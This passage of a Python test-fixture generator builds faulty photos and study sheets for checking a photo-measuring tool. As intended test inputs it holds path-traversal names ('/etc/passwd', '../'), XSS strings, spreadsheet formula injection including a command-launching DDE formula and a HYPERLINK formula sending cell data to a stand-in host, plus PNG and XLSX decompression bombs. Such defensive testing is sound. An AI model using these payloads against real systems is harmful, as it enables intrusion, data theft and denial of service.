#!/usr/bin/env python3
"""Make a folder of faulty studies from one good photo and one good study sheet.

    python make_faults.py PHOTO SHEET OUT [--chart X0,Y0,X1,Y1] [--hair X0,Y0,X1,Y1]
                          [--only ID,ID] [--heavy] [--seed 1] [--photo-column photo]
    python make_faults.py --check faults.csv        # every 'file' row has a maker, and the reverse

Each fault gets OUT/<ID>/ : a complete small study (sheet + photos/) in which the photo
'photos/good.jpg' is sound and one thing is wrong, and expect.json saying what a measuring
tool must do.  OUT/index.csv lists them.  Boxes are fractions of width and height.
Outcomes in expect.json:
  correct       a number, equal to the good photo's within the stated tolerance
  flagged       a number that carries the named flag wherever it is shown
  refused       no number for that photo; the error names file, cause, remedy; others are measured
  sheet-refused nothing is measured; the error names sheet, line, column
Needs numpy and pillow; tifffile, openpyxl, pillow_heif are used when present, and a fault
that lacks its library is listed in index.csv as skipped, never silently left out.
All pictures are derived from PHOTO; nothing is downloaded.  The same seed gives the same bytes,
save for the creation times which openpyxl writes into XLSX files.
"""

import argparse
import csv
import io
import json
import os
import pathlib
import shutil
import struct
import sys
import unicodedata
import zipfile
import zlib

import numpy as np
from PIL import Image, ImageFilter

MAKERS = {}


def fault(fid, outcome, says, heavy=False, needs=()):
    """Register a maker. `says`: words which the tool's message or flag must hold."""

    def deco(fn):
        assert fid not in MAKERS, fid
        MAKERS[fid] = dict(
            fn=fn,
            outcome=outcome,
            says=list(says),
            heavy=heavy,
            needs=tuple(needs),
            title=(fn.__doc__ or "").strip(),
        )
        return fn

    return deco


# ------------------------------------------------------------------ context
class Study:
    """The good material and helpers; `d` is the folder of the fault being made."""

    def __init__(self, photo, sheet, chart, hair, seed, column):
        self.bytes = pathlib.Path(photo).read_bytes()
        im = Image.open(io.BytesIO(self.bytes))
        self.exif = im.getexif()
        self.icc = im.info.get("icc_profile")
        im.load()
        self.rgb = im.convert("RGB")
        self.a = np.asarray(self.rgb)
        self.h, self.w = self.a.shape[:2]
        self.jpeg = self.bytes if im.format == "JPEG" else self.enc("JPEG", quality=92)
        text = pathlib.Path(sheet).read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        self.head, self.row = rows[0], rows[1]
        self.col = self.head.index(column)
        self.chart, self.hair, self.seed = chart, hair, seed
        self.rng = np.random.default_rng(seed)
        self.d = None

    def enc(self, fmt, img=None, **kw):
        b = io.BytesIO()
        (img or self.rgb).save(b, fmt, **kw)
        return b.getvalue()

    def put(self, name, data, sub="photos"):
        p = self.d / sub / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        return p

    def rowfor(self, name, **over):
        r = list(self.row)
        r[self.col] = name
        for k, v in over.items():
            if k in self.head:
                r[self.head.index(k)] = v
        return r

    def csvtext(self, rows, head=None, sep=",", nl="\r\n"):
        b = io.StringIO()
        w = csv.writer(b, delimiter=sep, lineterminator=nl)
        w.writerow(head or self.head)
        w.writerows(rows)
        return b.getvalue()

    def sheet(self, names=("photos/good.jpg", "photos/bad.jpg"), **kw):
        self.put("study.csv", self.csvtext([self.rowfor(n) for n in names], **kw).encode(), sub=".")

    def box(self, which):
        b = getattr(self, which)
        if b is None:
            raise SkipFault(f"needs --{which}")
        x0, y0, x1, y1 = b
        return int(x0 * self.w), int(y0 * self.h), int(x1 * self.w), int(y1 * self.h)

    def scene(self, arr, name="bad.jpg", exif=True, quality=92, **kw):
        img = Image.fromarray(np.clip(np.asarray(arr, float) + 0.5, 0, 255).astype("uint8"))
        if exif and len(self.exif):
            kw["exif"] = self.exif
        if self.icc:
            kw["icc_profile"] = self.icc
        self.put(name, self.enc("JPEG", img, quality=quality, **kw))


class SkipFault(Exception):
    pass


def lin(a):
    v = np.asarray(a, float) / 255
    return np.where(v <= 0.04045, v / 12.92, ((v + 0.055) / 1.055) ** 2.4)


def delin(v):
    v = np.clip(v, 0, 1)
    return 255 * np.where(v <= 0.0031308, v * 12.92, 1.055 * v ** (1 / 2.4) - 0.055)


# --------------------------------------------------- ICC profile (matrix/TRC), written by hand
PRIM = {
    "p3": ((0.680, 0.320), (0.265, 0.690), (0.150, 0.060)),
    "srgb": ((0.64, 0.33), (0.30, 0.60), (0.15, 0.06)),
    "adobe": ((0.64, 0.33), (0.21, 0.71), (0.15, 0.06)),
    "rec2020": ((0.708, 0.292), (0.170, 0.797), (0.131, 0.046)),
}
BRAD = np.array([[0.8951, 0.2664, -0.1614], [-0.7502, 1.7135, 0.0367], [0.0389, -0.0685, 1.0296]])
D50 = np.array([0.9642, 1, 0.8249])


def d50_matrix(space):
    m = np.array([[x / y, 1, (1 - x - y) / y] for x, y in PRIM[space]]).T
    wp = np.array([0.3127 / 0.3290, 1, (1 - 0.3127 - 0.3290) / 0.3290])
    m = m * np.linalg.solve(m, wp)
    return np.linalg.inv(BRAD) @ np.diag((BRAD @ D50) / (BRAD @ wp)) @ BRAD @ m


def icc_profile(space):
    def s15(v):
        return struct.pack(">i", round(v * 65536))

    def xyz(v):
        return b"XYZ \0\0\0\0" + b"".join(s15(x) for x in v)

    u = space.encode("utf-16-be")
    txt = b"mluc\0\0\0\0" + struct.pack(">II", 1, 12) + b"enUS" + struct.pack(">II", len(u), 28) + u
    if space == "adobe":
        trc = b"curv\0\0\0\0" + struct.pack(">IH", 1, 563) + b"\0\0"
    else:
        trc = (
            b"para\0\0\0\0"
            + struct.pack(">HH", 3, 0)
            + b"".join(s15(v) for v in (2.4, 1 / 1.055, 0.055 / 1.055, 1 / 12.92, 0.04045))
        )
    m = d50_matrix(space)
    tags = [
        (b"desc", txt),
        (b"cprt", txt),
        (b"wtpt", xyz(D50)),
        (b"rXYZ", xyz(m[:, 0])),
        (b"gXYZ", xyz(m[:, 1])),
        (b"bXYZ", xyz(m[:, 2])),
        (b"rTRC", trc),
        (b"gTRC", trc),
        (b"bTRC", trc),
    ]
    off, table, body = 132 + 12 * len(tags), b"", b""
    for k, data in tags:
        data += b"\0" * (-len(data) % 4)
        table += k + struct.pack(">II", off + len(body), len(data))
        body += data
    head = struct.pack(
        ">I4sI4s4s4s", off + len(body), b"\0" * 4, 0x04300000, b"mntr", b"RGB ", b"XYZ "
    )
    head += (
        struct.pack(">6H", 2025, 1, 1, 0, 0, 0)
        + b"acsp"
        + b"\0" * 28
        + b"".join(s15(v) for v in D50)
    )
    return head.ljust(128, b"\0") + struct.pack(">I", len(tags)) + table + body


def to_space(a, space):
    v = lin(a) @ (np.linalg.inv(d50_matrix(space)) @ d50_matrix("srgb")).T
    return 255 * np.clip(v, 0, 1) ** (256 / 563) if space == "adobe" else delin(v)


def png(w, h, depth, ctype, idat, extra=b""):
    def ch(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))

    return (
        b"\x89PNG\r\n\x1a\n"
        + ch(b"IHDR", struct.pack(">IIBBBBB", w, h, depth, ctype, 0, 0, 0))
        + extra
        + ch(b"IDAT", idat)
        + ch(b"IEND", b"")
    )


# ------------------------------------------------------------------ broken containers
def _trunc(share, fid):
    @fault(fid, "refused", ["bad.jpg", "incomplete"])
    def mk(s):
        s.put("bad.jpg", s.jpeg[: int(len(s.jpeg) * share)])
        s.sheet()

    MAKERS[fid]["title"] = f"JPEG cut off at {share:.0%}"


for _f, _i in ((0.99, "IMG-01"), (0.5, "IMG-02"), (0.02, "IMG-03")):
    _trunc(_f, _i)


@fault("IMG-04", "refused", ["bad.jpg", "damaged"])
def _(s):
    """4 KiB of zeros inside the JPEG data (bad memory card); decoder prints a warning only"""
    b = bytearray(s.jpeg)
    q = len(b) // 2
    b[q : q + 4096] = b"\0" * min(4096, len(b) - q)
    s.put("bad.jpg", bytes(b))
    s.sheet()


@fault("IMG-05", "refused", ["bad.jpg", "changed since"])
def _(s):
    """one bit flipped in a registered photo: no decoder can see it, only the stored SHA-256 can"""
    import hashlib

    b = bytearray(s.jpeg)
    b[len(b) * 2 // 5] ^= 8
    s.put("bad.jpg", bytes(b))
    s.sheet()
    s.put(
        "registered_sha256.json",
        json.dumps({"photos/bad.jpg": hashlib.sha256(s.jpeg).hexdigest()}).encode(),
        sub=".",
    )


@fault("IMG-06", "refused", ["bad.jpg", "empty"])
def _(s):
    """0-byte file"""
    s.put("bad.jpg", b"")
    s.sheet()


@fault("IMG-07", "refused", ["bad.png", "damaged"])
def _(s):
    """PNG cut in half"""
    b = s.enc("PNG")
    s.put("bad.png", b[: len(b) // 2])
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("IMG-08", "refused", ["bad.tif", "damaged"])
def _(s):
    """TIFF cut in half"""
    b = s.enc("TIFF")
    s.put("bad.tif", b[: len(b) // 2])
    s.sheet(("photos/good.jpg", "photos/bad.tif"))


@fault("IMG-09", "refused", ["bad.jpg", "not a photo"])
def _(s):
    """HTML (a saved log-in page) named .jpg"""
    s.put("bad.jpg", b"<!doctype html><title>Log in</title>")
    s.sheet()


@fault("IMG-10", "correct", [])
def _(s):
    """PNG named .jpg: same number, a note that the name is wrong"""
    s.put("bad.jpg", s.enc("PNG"))
    s.sheet()


@fault("IMG-11", "refused", ["bad.jpg", "format"])
def _(s):
    """PostScript named .jpg: must never reach Ghostscript"""
    s.put(
        "bad.jpg",
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\nshowpage\n%%EOF\n",
    )
    s.sheet()


@fault("IMG-12", "correct", [])
def _(s):
    """50 kB of other bytes after the end of the JPEG (vendor trailer, motion photo)"""
    s.put("bad.jpg", s.jpeg + s.rng.integers(0, 256, 50000, dtype=np.uint8).tobytes())
    s.sheet()


@fault("IMG-13", "refused", ["bad.png", "too large"])
def _(s):
    """PNG header says 60000 x 60000, data tiny"""
    s.put("bad.png", png(60000, 60000, 1, 0, zlib.compress(b"\0" * 7501 * 4)))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("IMG-14", "refused", ["bad.png", "too large"], heavy=True)
def _(s):
    """48 kB PNG which really unpacks to 20000 x 20000 (1.2 GB as RGB)"""
    c = zlib.compressobj(9)
    row = b"\0" * 2501
    data = b"".join(c.compress(row * 400) for _ in range(50)) + c.flush()
    s.put("bad.png", png(20000, 20000, 1, 0, data))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("IMG-15", "refused", ["bad.png", "too small"])
def _(s):
    """1 x 1 picture"""
    s.put("bad.png", s.enc("PNG", Image.new("RGB", (1, 1))))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("IMG-16", "refused", ["bad.jpg", "folder"])
def _(s):
    """a folder named bad.jpg"""
    (s.d / "photos/bad.jpg").mkdir(parents=True)
    s.sheet()


@fault("IMG-17", "refused", ["bad.jpg", "not found"])
def _(s):
    """sheet names a photo that is not there"""
    s.sheet()


@fault("IMG-18", "refused", ["bad.jpg", "damaged"])
def _(s):
    """progressive JPEG cut at 60 %: whole frame visible, detail missing"""
    b = s.enc("JPEG", quality=92, progressive=True)
    s.put("bad.jpg", b[: int(len(b) * 0.6)])
    s.sheet()


@fault("IMG-19", "refused", ["bad.heic", "damaged"], needs=("pillow_heif",))
def _(s):
    """HEIC cut in half"""
    b = s.enc("HEIF", quality=85)
    s.put("bad.heic", b[: len(b) // 2])
    s.sheet(("photos/good.jpg", "photos/bad.heic"))


@fault("IMG-20", "correct", [], needs=("pillow_heif",))
def _(s):
    """HEIC bytes named .jpg (a phone export)"""
    s.put("bad.jpg", s.enc("HEIF", quality=95))
    s.sheet()


# ------------------------------------------------------------------ pixel layouts
@fault("PIX-01", "refused", ["CMYK"])
def _(s):
    """CMYK JPEG"""
    s.put("bad.jpg", s.enc("JPEG", s.rgb.convert("CMYK"), quality=92))
    s.sheet()


@fault("PIX-02", "refused", ["grey"])
def _(s):
    """greyscale JPEG: no hue can be measured"""
    s.put("bad.jpg", s.enc("JPEG", s.rgb.convert("L"), quality=92))
    s.sheet()


@fault("PIX-03", "refused", ["grey"])
def _(s):
    """16-bit greyscale PNG (Pillow's convert('RGB') makes it white)"""
    g = np.asarray(s.rgb.convert("L")).astype(">u2") * 257
    raw = b"".join(b"\0" + r.astype(">u2").tobytes() for r in g)
    s.put("bad.png", png(s.w, s.h, 16, 0, zlib.compress(raw, 1)))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("PIX-04", "correct", [])
def _(s):
    """16-bit RGB PNG: same number, and not cut to 8 bits"""
    g = s.a.astype(">u2") * 257
    raw = b"".join(b"\0" + r.astype(">u2").tobytes() for r in g)
    s.put("bad.png", png(s.w, s.h, 16, 2, zlib.compress(raw, 1)))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("PIX-05", "refused", ["transparent"])
def _(s):
    """alpha: the left half transparent over real pixels"""
    im = s.rgb.convert("RGBA")
    al = np.full((s.h, s.w), 255, "uint8")
    al[:, : s.w // 2] = 0
    im.putalpha(Image.fromarray(al))
    s.put("bad.png", s.enc("PNG", im))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("PIX-06", "flagged", ["reduced-colours"])
def _(s):
    """palette PNG with 64 colours"""
    s.put("bad.png", s.enc("PNG", s.rgb.quantize(64)))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("PIX-07", "refused", ["animated"])
def _(s):
    """animated WebP, two different frames"""
    a = s.rgb.resize((400, 300))
    s.put("bad.webp", s.enc("WEBP", a, save_all=True, append_images=[a.rotate(180)]))
    s.sheet(("photos/good.jpg", "photos/bad.webp"))


@fault("PIX-08", "refused", ["pages"])
def _(s):
    """two-page TIFF"""
    a = s.rgb
    s.put("bad.tif", s.enc("TIFF", a, save_all=True, append_images=[a.rotate(180)]))
    s.sheet(("photos/good.jpg", "photos/bad.tif"))


@fault("PIX-09", "refused", ["NaN"], needs=("tifffile",))
def _(s):
    """float TIFF with NaN and Inf"""
    import tifffile

    f = (s.a / 255).astype("float32")
    f[s.h // 4 : s.h // 2, s.w // 4 : s.w // 2] = np.nan
    f[0, 0] = np.inf
    b = io.BytesIO()
    tifffile.imwrite(b, f, photometric="rgb")
    s.put("bad.tif", b.getvalue())
    s.sheet(("photos/good.jpg", "photos/bad.tif"))


@fault("PIX-10", "refused", ["float"], needs=("tifffile",))
def _(s):
    """float TIFF, range 0..1, no statement whether linear or sRGB-encoded"""
    import tifffile

    b = io.BytesIO()
    tifffile.imwrite(b, (s.a / 255).astype("float32"), photometric="rgb")
    s.put("bad.tif", b.getvalue())
    s.sheet(("photos/good.jpg", "photos/bad.tif"))


def _orient(o, fid, fmt, name):
    @fault(fid, "correct", [])
    def mk(s):
        e = Image.Exif()
        e[0x0112] = o
        inv = {
            1: None,
            3: Image.Transpose.ROTATE_180,
            6: Image.Transpose.ROTATE_90,
            2: Image.Transpose.FLIP_LEFT_RIGHT,
        }[o]
        im = s.rgb.transpose(inv) if inv is not None else s.rgb
        kw = {"quality": 92} if fmt == "JPEG" else {}
        if fmt == "TIFF":
            kw["tiffinfo"] = {0x112: o}
        else:
            kw["exif"] = e
        s.put(name, s.enc(fmt, im, **kw))
        s.sheet(("photos/good.jpg", "photos/" + name))

    MAKERS[fid]["title"] = (
        f"{fmt} stored turned, orientation tag {o}: upright result, the same number, "
        "chart not called mirrored"
    )


_orient(6, "PIX-11", "JPEG", "bad.jpg")
_orient(2, "PIX-12", "JPEG", "bad.jpg")
_orient(6, "PIX-13", "PNG", "bad.png")
_orient(6, "PIX-14", "TIFF", "bad.tif")


@fault("PIX-15", "flagged", ["metadata"])
def _(s):
    """invalid orientation tag 9 and random bytes as EXIF"""
    s.put(
        "bad.jpg",
        s.enc(
            "JPEG",
            quality=92,
            exif=b"Exif\0\0" + s.rng.integers(0, 256, 200, dtype=np.uint8).tobytes(),
        ),
    )
    s.sheet()


# ------------------------------------------------------------------ colour management
def _space(space, fid):
    @fault(fid, "correct", [])
    def mk(s):
        im = Image.fromarray((to_space(s.a, space) + 0.5).astype("uint8"))
        s.put(
            "bad.jpg", s.enc("JPEG", im, quality=95, subsampling=0, icc_profile=icc_profile(space))
        )
        s.sheet()

    MAKERS[fid]["title"] = (
        f"same scene stored in {space} with its ICC profile: dE00 <= 0.5 from the sRGB one"
    )


for _s, _i in (("p3", "COL-01"), ("adobe", "COL-02"), ("rec2020", "COL-03")):
    _space(_s, _i)


@fault("COL-04", "refused", ["colour profile"])
def _(s):
    """damaged ICC profile"""
    p = icc_profile("p3")
    s.put("bad.jpg", s.enc("JPEG", quality=92, icc_profile=p[:200] + b"\xff" * 300))
    s.sheet()


@fault("COL-05", "refused", ["colour profile"])
def _(s):
    """grey-space ICC profile on an RGB picture"""
    p = bytearray(icc_profile("p3"))
    p[16:20] = b"GRAY"
    s.put("bad.jpg", s.enc("JPEG", quality=92, icc_profile=bytes(p)))
    s.sheet()


@fault("COL-06", "flagged", ["colour-space-from-exif"])
def _(s):
    """Adobe RGB by EXIF only (ColorSpace 65535 + interop R03), no ICC"""
    e = Image.Exif()
    e.get_ifd(0x8769)[0xA001] = 65535
    e.get_ifd(0xA005)[1] = "R03"
    im = Image.fromarray((to_space(s.a, "adobe") + 0.5).astype("uint8"))
    s.put("bad.jpg", s.enc("JPEG", im, quality=95, exif=e))
    s.sheet()


@fault("COL-07", "flagged", ["colour-space-assumed"])
def _(s):
    """no profile and no EXIF: sRGB has to be assumed, and said"""
    s.put("bad.jpg", s.enc("JPEG", quality=92))
    s.sheet()


@fault("COL-08", "flagged", ["gain-map"])
def _(s):
    """HDR gain-map JPEG (second picture + hdrgm XMP): base picture measured, flagged"""
    g = Image.fromarray(s.a[::4, ::4, 1]).convert("RGB")
    x = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
        b'"http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:hdrgm="http://ns.adobe.com/hdr-gain-map/1.0/" '
        b'hdrgm:Version="1.0"/></rdf:RDF></x:xmpmeta>'
    )
    s.put("bad.jpg", s.enc("MPO", save_all=True, append_images=[g], quality=92, xmp=x))
    s.sheet()


# ------------------------------------------------------------------ study sheets
def _raw(fid, outcome, says, title, build, name="study.csv"):
    @fault(fid, outcome, says)
    def mk(s):
        s.put("good2.jpg", s.jpeg)
        s.put(name, build(s), sub=".")

    MAKERS[fid]["title"] = title


def _two(s):
    return [s.rowfor("photos/good.jpg"), s.rowfor("photos/good2.jpg")]


_raw(
    "SHT-01",
    "correct",
    [],
    "UTF-8 with byte-order mark",
    lambda s: b"\xef\xbb\xbf" + s.csvtext(_two(s)).encode(),
)
_raw("SHT-02", "correct", [], "semicolons", lambda s: s.csvtext(_two(s), sep=";").encode())
_raw(
    "SHT-03",
    "correct",
    [],
    "UTF-16 with tabs (spreadsheet 'Unicode text')",
    lambda s: s.csvtext(_two(s), sep="\t").encode("utf-16"),
)
_raw(
    "SHT-04",
    "correct",
    [],
    "'sep=;' first line",
    lambda s: b"sep=;\r\n" + s.csvtext(_two(s), sep=";").encode(),
)
_raw(
    "SHT-05",
    "sheet-refused",
    ["study.csv", "encoding"],
    "Windows-1252 with accents",
    lambda s: s.csvtext([s.rowfor("photos/Jos\u00e9.jpg"), *_two(s)]).encode("cp1252"),
)
_raw(
    "SHT-06",
    "sheet-refused",
    ["line 2", "column"],
    "decimal commas unquoted in a comma file: every cell shifts",
    lambda s: (
        ",".join([*s.head, "L"]) + "\n" + "".join(",".join(r) + ",45,3\n" for r in _two(s))
    ).encode(),
)
_raw(
    "SHT-07",
    "correct",
    [],
    "decimal commas with semicolons",
    lambda s: s.csvtext(
        [[*r, "45,3"] for r in _two(s)], head=[*s.head, "note_L"], sep=";"
    ).encode(),
)
_raw(
    "SHT-08",
    "sheet-refused",
    ["line 4", "same photo"],
    "the same row twice",
    lambda s: s.csvtext(_two(s) + _two(s)[:1]).encode(),
)
_raw(
    "SHT-09",
    "sheet-refused",
    ["column", "twice"],
    "the photo column twice",
    lambda s: s.csvtext([[r[s.col], *r] for r in _two(s)], head=[s.head[s.col], *s.head]).encode(),
)
_raw("SHT-10", "sheet-refused", ["no photos"], "header only", lambda s: s.csvtext([]).encode())
_raw("SHT-11", "sheet-refused", ["empty"], "0-byte sheet", lambda s: b"")
_raw(
    "SHT-12",
    "sheet-refused",
    ["quote"],
    "quote never closed",
    lambda s: s.csvtext(_two(s)).encode() + b'"photos/good.jpg,1\n',
)
_raw(
    "SHT-13",
    "sheet-refused",
    ["line 3", "columns"],
    "short row",
    lambda s: s.csvtext([_two(s)[0], ["photos/good2.jpg"]]).encode(),
)
_ids = ("007", "NA", "None", "TRUE", "1E5", "3-4", "12345678901234567890")
_raw(
    "SHT-14",
    "correct",
    [],
    "ids 007, NA, None, TRUE, 1E5, 3-4, 20 digits stay text exactly as typed",
    lambda s: s.csvtext(
        [r + list(v) for r, v in zip(_two(s), (_ids, _ids[::-1]), strict=False)],
        head=s.head + [f"id{k}" for k in range(len(_ids))],
    ).encode(),
)
_raw(
    "SHT-15",
    "sheet-refused",
    ["line 2", "date", "which"],
    "date 01/02/2025: day or month first cannot be told",
    lambda s: s.csvtext(
        [[*r, "01/02/2025"] for r in _two(s)], head=[*s.head, "date_taken"]
    ).encode(),
)
_raw(
    "SHT-16",
    "sheet-refused",
    ["line 2", "NUL"],
    "NUL byte in a name",
    lambda s: s.csvtext([s.rowfor("photos/go\0od.jpg"), *_two(s)]).encode(),
)
_raw(
    "SHT-17",
    "correct",
    [],
    "old Mac line ends (CR only)",
    lambda s: s.csvtext(_two(s), nl="\r").encode(),
)
_raw(
    "SHT-18",
    "correct",
    [],
    "trailing blank and no-break space round the name",
    lambda s: s.csvtext([s.rowfor("photos/good.jpg\xa0 "), *_two(s)[1:]]).encode(),
)
_raw(
    "SHT-19",
    "sheet-refused",
    ["study.xlsx", "not a workbook"],
    "CSV named .xlsx",
    lambda s: s.csvtext(_two(s)).encode(),
    name="study.xlsx",
)
_raw(
    "SHT-20",
    "sheet-refused",
    ["study.toml", "line"],
    "TOML with a Windows path in double quotes",
    lambda s: b'[[photo]]\nfile = "C:\\Users\\x\\a.jpg"\n',
    name="study.toml",
)
_raw(
    "SHT-21",
    "sheet-refused",
    ["study.toml", "twice"],
    "TOML key given twice",
    lambda s: b'[[photo]]\nfile = "photos/good.jpg"\nfile = "photos/good2.jpg"\n',
    name="study.toml",
)
_raw(
    "SHT-22",
    "correct",
    [],
    "TOML with a byte-order mark",
    lambda s: b'\xef\xbb\xbf[[photo]]\nfile = "photos/good.jpg"\n',
    name="study.toml",
)


def _xlsx(fid, outcome, says, title, edit):
    @fault(fid, outcome, says, needs=("openpyxl",))
    def mk(s):
        import openpyxl

        wb = openpyxl.Workbook()
        ws = wb.active
        ws.append(s.head)
        for r in _two(s):
            ws.append(r)
        s.put("good2.jpg", s.jpeg)
        edit(s, wb, ws)
        wb.save(s.d / "study.xlsx")

    MAKERS[fid]["title"] = title


def _cell(s, ws, row, v):
    ws.cell(row=row, column=s.col + 1).value = v


_xlsx(
    "SHT-23",
    "sheet-refused",
    ["A1", "formula"],
    "photo name is a formula without a stored value (reads as blank)",
    lambda s, wb, ws: _cell(s, ws, 2, '="photos/"&"good.jpg"'),
)
_xlsx(
    "SHT-24",
    "sheet-refused",
    ["too many rows"],
    "one stray cell at XFD1048576 (pandas: 42 s, 5.9 GB, MemoryError)",
    lambda s, wb, ws: ws.__setitem__("XFD1048576", "x"),
)
_xlsx(
    "SHT-25",
    "sheet-refused",
    ["row 2", "date"],
    "name turned into a date by the spreadsheet (3-4 -> 3 April)",
    lambda s, wb, ws: _cell(s, ws, 2, __import__("datetime").datetime(2025, 4, 3)),
)
_xlsx(
    "SHT-26",
    "sheet-refused",
    ["hidden"],
    "a hidden row",
    lambda s, wb, ws: setattr(ws.row_dimensions[3], "hidden", True),
)
_xlsx(
    "SHT-27",
    "sheet-refused",
    ["merged"],
    "merged cells: value only in the first",
    lambda s, wb, ws: ws.merge_cells(
        start_row=2, end_row=3, start_column=len(s.head), end_column=len(s.head)
    ),
)
_xlsx(
    "SHT-28",
    "sheet-refused",
    ["which sheet"],
    "two filled sheets",
    lambda s, wb, ws: [wb.create_sheet("Other").append(r) for r in ([*s.head], *_two(s))],
)


@fault("SHT-29", "sheet-refused", ["study.xlsx", "too large"], heavy=True, needs=("openpyxl",))
def _(s):
    """workbook zip bomb: 300 kB file, 300 MB cell"""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(s.head)
    b = io.BytesIO()
    wb.save(b)
    z = zipfile.ZipFile(b)
    with zipfile.ZipFile(s.d / "study.xlsx", "w", zipfile.ZIP_DEFLATED) as o:
        for n in z.namelist():
            t = z.read(n)
            if n.endswith("sheet1.xml"):
                i = t.index(b"<sheetData>") + 11
                t = (
                    t[:i]
                    + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
                    + b"A" * 300_000_000
                    + b"</t></is></c></row>"
                    + t[i:]
                )
            o.writestr(n, t)


# ------------------------------------------------------------------ paths and names
def _path(fid, name, says, title, outcome="sheet-refused"):
    @fault(fid, outcome, says)
    def mk(s):
        s.sheet(("photos/good.jpg", name))
        (s.d.parent / (s.d.name + "-outside.jpg")).write_bytes(s.jpeg)

    MAKERS[fid]["title"] = title


_path(
    "PTH-01",
    "../PTH-01-outside.jpg",
    ["outside the study folder"],
    "../ to an existing photo outside the study",
)
_path("PTH-02", "/etc/passwd", ["outside the study folder"], "absolute POSIX path")
_path(
    "PTH-03",
    "C:\\Users\\x\\a.jpg",
    ["outside the study folder"],
    "Windows absolute path (must be refused on every system)",
)
_path(
    "PTH-04",
    "\\\\server\\share\\a.jpg",
    ["outside the study folder"],
    "UNC path: must never open a network connection",
)
_path("PTH-05", "file:///etc/passwd", ["not a file name"], "file: URL")
_path(
    "PTH-06",
    "https://example.invalid/a.jpg",
    ["not a file name"],
    "https: URL: must never be fetched",
)
_path("PTH-07", "photos/../../PTH-07-outside.jpg", ["outside the study folder"], ".. in the middle")
_path("PTH-08", "..\\PTH-08-outside.jpg", ["outside the study folder"], "back-slash ..")
_path("PTH-09", "photos/CON.jpg", ["reserved name"], "Windows device name")
_path("PTH-10", "a" * 300 + ".jpg", ["name too long"], "300-character name")
_path("PTH-11", "photos/good.jpg:hidden", ["not a file name"], "NTFS stream syntax")
_path("PTH-12", "~/a.jpg", ["not found"], "tilde must not be expanded", outcome="refused")


@fault("PTH-13", "refused", ["outside the study folder"])
def _(s):
    """symbolic link in photos/ to a file outside"""
    t = s.d.parent / (s.d.name + "-outside.jpg")
    t.write_bytes(s.jpeg)
    (s.d / "photos").mkdir(parents=True, exist_ok=True)
    os.symlink(t.resolve(), s.d / "photos/bad.jpg")
    s.sheet()


@fault("PTH-14", "correct", [])
def _(s):
    """file name decomposed on disk (NFD), composed in the sheet (NFC)"""
    n = "Zo\u00eb_cr\u00e8me.jpg"
    s.put(unicodedata.normalize("NFD", n), s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + unicodedata.normalize("NFC", n)))


@fault("PTH-15", "refused", ["two files"])
def _(s):
    """both NFC and NFD spellings exist: the tool may not pick one"""
    n = "Zo\u00eb.jpg"
    for f in ("NFC", "NFD"):
        s.put(unicodedata.normalize(f, n), s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + n))


@fault("PTH-16", "refused", ["upper"])
def _(s):
    """case differs (GOOD.JPG): refuse with the near name; a study means the same everywhere"""
    s.sheet(("photos/good.jpg", "photos/GOOD.JPG"))


@fault("PTH-17", "correct", [])
def _(s):
    """emoji, quotes, percent, hash, right-to-left mark in the name"""
    n = "a 'b\u2019 100% #1 \U0001f487 \u200f.jpg"
    s.put(n, s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + n))


@fault("RPT-01", "correct", ["no script"])
def _(s):
    """HTML in a photo name: the report shows it as text"""
    n = "<img src=x onerror=alert(1)>.jpg"
    s.put(n, s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + n))


@fault("RPT-02", "correct", ["no script"])
def _(s):
    """script-closing text and Markdown link in every text column of the sheet"""
    ev = "</script><script>alert(2)</script>[x](javascript:alert(3))$\\frac{"
    rows = _two(s)
    for i in range(len(s.head)):
        if i != s.col:
            rows[1][i] = ev
    s.put("good2.jpg", s.jpeg)
    s.put("study.csv", s.csvtext(rows, head=s.head).encode(), sub=".")


@fault("RPT-03", "correct", ["no formula"])
def _(s):
    """spreadsheet formulas in a free-text column: written to CSV/XLSX as text"""
    vals = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.invalid/?"&A1)',
        "+1+1",
        "@SUM(1)",
        "\t=1",
        "-2+3",
    ]
    s.put("good2.jpg", s.jpeg)
    rows = [_two(s)[0] + [vals[0]], _two(s)[1] + [" ".join(vals[1:])]]
    s.put("study.csv", s.csvtext(rows, head=[*s.head, "remark"]).encode(), sub=".")


@fault("RPT-04", "correct", ["no script"])
def _(s):
    """script and formula in EXIF camera model"""
    e = Image.Exif()
    e[0x0110] = "<script>alert(1)</script>"
    e[0x010E] = "=cmd()"
    s.put("bad.jpg", s.enc("JPEG", quality=92, exif=e))
    s.sheet()


# ------------------------------------------------------------------ privacy
@fault("PRV-01", "correct", ["no GPS in any output"])
def _(s):
    """EXIF GPS, XMP GPS, owner, serial number, comment: none may reach an output"""
    e = Image.Exif()
    e[0x013B] = "SECRET-OWNER"
    x = e.get_ifd(0x8769)
    x[0xA430] = "SECRET-OWNER"
    x[0xA431] = "SECRET-SERIAL"
    g = e.get_ifd(0x8825)
    g[1] = "N"
    g[2] = (52.0, 22.0, 12.0)
    g[3] = "E"
    g[4] = (4.0, 53.0, 0.0)
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
        b'"http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
